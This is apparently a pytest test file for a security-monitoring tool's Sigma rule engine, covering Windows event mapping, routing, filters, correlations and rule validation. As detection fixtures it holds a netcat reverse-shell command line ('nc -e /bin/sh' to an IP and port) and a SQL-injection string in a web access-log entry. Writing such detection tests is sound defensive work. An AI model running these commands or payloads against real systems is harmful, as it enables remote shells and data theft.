"""Rule loading, the load report, `socflow rules validate`, Windows field mapping and routing,
Sigma filters and correlation rules."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest
import yaml

from alerts.cli import main
from detectors.sigma import SigmaEngine
from ingest.logsource import LogsourceTable
from tests.sigma.conftest import CONFIG_DIR


def write_rule(folder: Path, name: str, rule: dict[str, Any] | str) -> Path:
    path = folder / name
    path.write_text(rule if isinstance(rule, str) else yaml.safe_dump(rule, sort_keys=False), encoding="utf-8")
    return path


def rule(rule_id: str, detection: dict[str, Any], logsource: dict[str, str] | None = None,
         **extra: Any) -> dict[str, Any]:
    return {"title": f"rule {rule_id[-2:]}", "id": rule_id, "status": "test",
            "logsource": logsource or {"product": "windows", "category": "process_creation"},
            "detection": detection, "level": "high", **extra}


def uid(n: int) -> str:
    return f"00000000-0000-4000-8000-0000000000{n:02d}"


TABLE = LogsourceTable.load(CONFIG_DIR / "logsources.yaml")


def windows(channel: str, event_id: int, **data: Any) -> dict[str, Any]:
    return TABLE.tag({"winlog": {"channel": channel, "event_id": event_id, "provider_name": "P",
                                 "computer_name": "HOST1", "event_data": data}})


SYSMON, SECURITY = "Microsoft-Windows-Sysmon/Operational", "Security"


# ---------------------------------------------------------------- windows mapping and routing


def test_process_creation_matches_sysmon_1_and_security_4688(tmp_path: Path) -> None:
    write_rule(tmp_path, "r.yml", rule(uid(1), {
        "selection": {"Image|endswith": "\\whoami.exe", "ParentImage|endswith": "\\cmd.exe",
                      "CommandLine|contains": "/all"}, "condition": "selection"}))
    engine, report = SigmaEngine.load([tmp_path], config_dir=CONFIG_DIR)
    assert report.ok
    sysmon = windows(SYSMON, 1, Image="C:\\Windows\\System32\\whoami.exe", ParentImage="C:\\x\\cmd.exe",
                     CommandLine="whoami /all")
    security = windows(SECURITY, 4688, NewProcessName="C:\\Windows\\System32\\whoami.exe",
                       ParentProcessName="C:\\x\\cmd.exe", CommandLine="whoami /all")
    assert [r.id for r in engine.match(sysmon)] == [uid(1)]
    assert [r.id for r in engine.match(security)] == [uid(1)]
    # Not a process creation: same fields under Sysmon 11 do not reach the rule.
    assert engine.match(windows(SYSMON, 11, Image="C:\\whoami.exe", ParentImage="cmd.exe",
                                CommandLine="/all")) == []


def test_system_fields_and_service_routing(tmp_path: Path) -> None:
    write_rule(tmp_path, "r.yml", rule(uid(2), {
        "selection": {"EventID": 4625, "Channel": "security", "Provider_Name": "p", "Computer": "host1",
                      "TargetUserName": "admin"}, "condition": "selection"},
        logsource={"product": "windows", "service": "security"}))
    engine, _ = SigmaEngine.load([tmp_path], config_dir=CONFIG_DIR)
    assert engine.match(windows(SECURITY, 4625, TargetUserName="Admin"))
    assert not engine.match(windows(SECURITY, 4624, TargetUserName="Admin"))
    assert not engine.match(windows("System", 4625, TargetUserName="Admin"))


def test_event_data_names_with_spaces(tmp_path: Path) -> None:
    write_rule(tmp_path, "r.yml", rule(uid(3), {"selection": {"ThreatName|contains": "Mimikatz"},
                                                 "condition": "selection"},
                                       logsource={"product": "windows", "service": "windefend"}))
    engine, _ = SigmaEngine.load([tmp_path], config_dir=CONFIG_DIR)
    channel = "Microsoft-Windows-Windows Defender/Operational"
    assert engine.match(windows(channel, 1116, **{"Threat Name": "HackTool:Win32/Mimikatz"}))


def test_antivirus_category_and_mapping(tmp_path: Path) -> None:
    write_rule(tmp_path, "r.yml", rule(uid(4), {"selection": {"Signature|contains": "Mimikatz"},
                                                 "condition": "selection"}, logsource={"category": "antivirus"}))
    engine, _ = SigmaEngine.load([tmp_path], config_dir=CONFIG_DIR)
    channel = "Microsoft-Windows-Windows Defender/Operational"
    assert engine.match(windows(channel, 1116, **{"Threat Name": "HackTool:Win32/Mimikatz"}))
    assert not engine.match(windows(channel, 5001, **{"Threat Name": "HackTool:Win32/Mimikatz"}))


@pytest.mark.parametrize(("event_id", "event_type", "categories"), [
    (12, "CreateKey", {"registry_add", "registry_event"}),
    (12, "DeleteKey", {"registry_delete", "registry_event"}),
    (13, "SetValue", {"registry_set", "registry_event"}),
    (14, "RenameKey", {"registry_rename", "registry_event"}),
])
def test_one_event_several_categories(tmp_path: Path, event_id: int, event_type: str, categories: set[str]) -> None:
    for n, category in enumerate(["registry_add", "registry_delete", "registry_set", "registry_rename",
                                  "registry_event"]):
        write_rule(tmp_path, f"{category}.yml", rule(uid(10 + n), {"selection": {"TargetObject|contains": "run"},
                                                                   "condition": "selection"},
                                                     logsource={"product": "windows", "category": category}))
    engine, _ = SigmaEngine.load([tmp_path], config_dir=CONFIG_DIR)
    event = windows(SYSMON, event_id, EventType=event_type, TargetObject="HKLM\\...\\Run\\x")
    assert {r.logsource["category"] for r in engine.match(event)} == categories


def test_ecs_sources_route_by_their_own_logsource(tmp_path: Path) -> None:
    write_rule(tmp_path, "web.yml", rule(uid(20), {
        "selection": {"cs-method": "POST", "c-uri|contains": "/cgi-bin/", "sc-status": 200},
        "condition": "selection"}, logsource={"category": "webserver"}))
    write_rule(tmp_path, "lin.yml", rule(uid(21), {
        "selection": {"Image|endswith": "/nc", "CommandLine|contains": " -e "}, "condition": "selection"},
        logsource={"product": "linux", "category": "process_creation"}))
    engine, report = SigmaEngine.load([tmp_path], config_dir=CONFIG_DIR)
    assert report.ok
    web = {"socflow": {"logsource": {"category": "webserver", "product": "nginx"}},
           "http": {"request": {"method": "post"}, "response": {"status_code": 200}},
           "url": {"original": "/cgi-bin/test.sh"}}
    assert [r.id for r in engine.match(web)] == [uid(20)]
    linux = {"socflow": {"logsource": {"product": "linux", "category": "process_creation"}},
             "process": {"executable": "/usr/bin/nc", "command_line": "nc -e /bin/sh 10.0.0.1 4444"}}
    assert [r.id for r in engine.match(linux)] == [uid(21)]
    linux["socflow"]["logsource"]["product"] = "macos"  # type: ignore[index]
    assert engine.match(linux) == []


# ---------------------------------------------------------------- filters and correlations


def test_sigma_filter_applies_to_named_rule(tmp_path: Path) -> None:
    write_rule(tmp_path, "r.yml", rule(uid(30), {"selection": {"Image|endswith": "\\cmd.exe"},
                                                  "condition": "selection"}))
    write_rule(tmp_path, "other.yml", rule(uid(31), {"selection": {"Image|endswith": "\\cmd.exe"},
                                                      "condition": "selection"}))
    write_rule(tmp_path, "f.yml", {
        "title": "admin hosts", "id": uid(32), "logsource": {"product": "windows", "category": "process_creation"},
        "filter": {"rules": [uid(30)], "selection": {"Computer": "ADMIN-PC"}, "condition": "not selection"}})
    engine, report = SigmaEngine.load([tmp_path], config_dir=CONFIG_DIR)
    assert report.ok and report.loaded == 3 and report.total == 3
    event = windows(SYSMON, 1, Image="C:\\cmd.exe")
    assert {r.id for r in engine.match(event)} == {uid(30), uid(31)}
    event["winlog"]["computer_name"] = "admin-pc"
    assert {r.id for r in engine.match(event)} == {uid(31)}


def test_correlation_rules_load_and_silence_their_base_rules(tmp_path: Path) -> None:
    write_rule(tmp_path, "base.yml", rule(uid(40), {"selection": {"EventID": 4625}, "condition": "selection"},
                                          logsource={"product": "windows", "service": "security"},
                                          name="failed_logon"))
    write_rule(tmp_path, "corr.yml", {
        "title": "brute force", "id": uid(41), "status": "test",
        "correlation": {"type": "event_count", "rules": ["failed_logon"], "group-by": ["TargetUserName"],
                        "timespan": "5m", "condition": {"gte": 10}}, "level": "high"})
    engine, report = SigmaEngine.load([tmp_path], config_dir=CONFIG_DIR)
    assert report.ok, report.render()
    assert report.loaded == report.total == 2
    assert len(engine.correlations) == 1
    (base,) = engine.rules
    assert base.name == "failed_logon" and base.generate is False
    assert engine.match(windows(SECURITY, 4625)) == [base]


def test_broken_correlation_is_reported(tmp_path: Path) -> None:
    write_rule(tmp_path, "corr.yml", {
        "title": "dangling", "id": uid(42), "correlation": {
            "type": "event_count", "rules": ["no_such_rule"], "timespan": "5m", "condition": {"gte": 2}}})
    _, report = SigmaEngine.load([tmp_path], config_dir=CONFIG_DIR)
    assert report.total == 1 and report.loaded == 0
    assert "no_such_rule" in report.render()


# ---------------------------------------------------------------- failures and the CLI


def _bad_rules(folder: Path) -> None:
    write_rule(folder, "good.yml", rule(uid(50), {"selection": {"Image": "x"}, "condition": "selection"}))
    write_rule(folder, "bad_yaml.yml", "title: [unclosed\n")
    write_rule(folder, "bad_regex.yml", rule(uid(51), {"selection": {"Image|re": "(unclosed"},
                                                        "condition": "selection"}))
    write_rule(folder, "bad_modifier.yml", rule(uid(52), {"selection": {"Image|nosuch": "x"},
                                                           "condition": "selection"}))
    write_rule(folder, "bad_condition.yml", rule(uid(53), {"selection": {"Image": "x"},
                                                            "condition": "selection and missing"}))
    write_rule(folder, "no_detection.yml", {"title": "t", "id": uid(54), "logsource": {"product": "windows"}})
    write_rule(folder, "empty.yml", "")


def test_every_failure_is_listed_with_a_reason(tmp_path: Path) -> None:
    _bad_rules(tmp_path)
    engine, report = SigmaEngine.load([tmp_path], config_dir=CONFIG_DIR)
    assert [r.id for r in engine.rules] == [uid(50)]
    assert report.total == 7 and report.loaded == 1
    assert len(report.failures) == 6
    assert all(failure.reason for failure in report.failures)
    text = report.render()
    assert text.splitlines()[-1] == "loaded 1 of 7 rules"
    for name in ("bad_yaml", "bad_regex", "bad_modifier", "bad_condition", "no_detection", "empty"):
        assert f"{name}.yml" in text


def test_cli_validate(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    good, bad = tmp_path / "good", tmp_path / "bad"
    good.mkdir()
    bad.mkdir()
    write_rule(good, "good.yml", rule(uid(60), {"selection": {"Image": "x"}, "condition": "selection"}))
    assert main(["rules", "validate", str(good)]) == 0
    assert capsys.readouterr().out.strip().splitlines()[-1] == "loaded 1 of 1 rules"
    _bad_rules(bad)
    assert main(["rules", "validate", str(good), str(bad)]) == 1
    out = capsys.readouterr().out.strip().splitlines()
    assert out[-1] == "loaded 2 of 8 rules"
    assert sum(line.startswith("FAILED") for line in out) == 6


def test_rule_info_fields(tmp_path: Path) -> None:
    write_rule(tmp_path, "r.yml", rule(uid(70), {"selection": {"Image": "x"}, "condition": "selection"},
                                       tags=["attack.execution", "attack.t1059.001"], author="me",
                                       references=["https://example.org"], falsepositives=["admins"]))
    engine, _ = SigmaEngine.load([tmp_path / "r.yml"], config_dir=CONFIG_DIR)
    (info,) = engine.rules
    assert info.level == "high" and info.status == "test" and info.author == "me"
    assert info.tags == ("attack.execution", "attack.t1059.001")
    assert info.attack_techniques == ("T1059.001",)
    assert info.logsource == {"product": "windows", "category": "process_creation"}
    assert info.path.endswith("r.yml") and info.generate is True


@pytest.mark.corpus
def test_validate_corpus_loads_at_least_99_percent(corpus_engine: Any) -> None:
    engine, report = corpus_engine
    assert report.total > 3700
    assert report.loaded >= 0.99 * report.total, report.render()
    assert len(report.failures) == report.total - report.loaded
    assert len(engine.rules) == report.loaded


# ---------------------------------------------------------------- non-Windows sources, real parsers


@pytest.mark.corpus
@pytest.mark.parametrize(("rule_path", "parser", "line"), [
    ("linux/auditd/lnx_auditd_audio_capture.yml", "audit",
     'type=EXECVE msg=audit(1700000000.123:42): argc=3 a0="arecord" a1="-vv" a2="-fdat"'),
    ("network/zeek/zeek_dns_mining_pools.yml", "json",
     '{"_path": "dns", "ts": 1700000000.0, "uid": "C1", "id.orig_h": "10.0.0.5", "id.orig_p": 5353, '
     '"id.resp_h": "8.8.8.8", "id.resp_p": 53, "query": "pool.supportxmr.com", "qtype_name": "A"}'),
    ("web/webserver_generic/web_sql_injection_in_access_logs.yml", "access",
     '10.0.0.9 - - [10/Oct/2026:13:55:36 +0000] "GET /item.php?id=select%20password%20from%20users HTTP/1.1" '
     '200 2326 "-" "Mozilla/5.0"'),
])
def test_sigmahq_rules_on_parsed_non_windows_events(sigma_corpus: Path, rule_path: str, parser: str,
                                                    line: str) -> None:
    from ingest.parsers.jsonlog import parse_json_line
    from ingest.parsers.linux import parse_audit_line
    from ingest.parsers.web import parse_access_line

    parse = {"audit": parse_audit_line, "json": parse_json_line, "access": parse_access_line}[parser]
    _, event = parse(line, source="test")
    engine, report = SigmaEngine.load([sigma_corpus / "rules" / rule_path], config_dir=CONFIG_DIR)
    assert report.ok, report.render()
    assert [r.id for r in engine.match(event)] == [engine.rules[0].id]
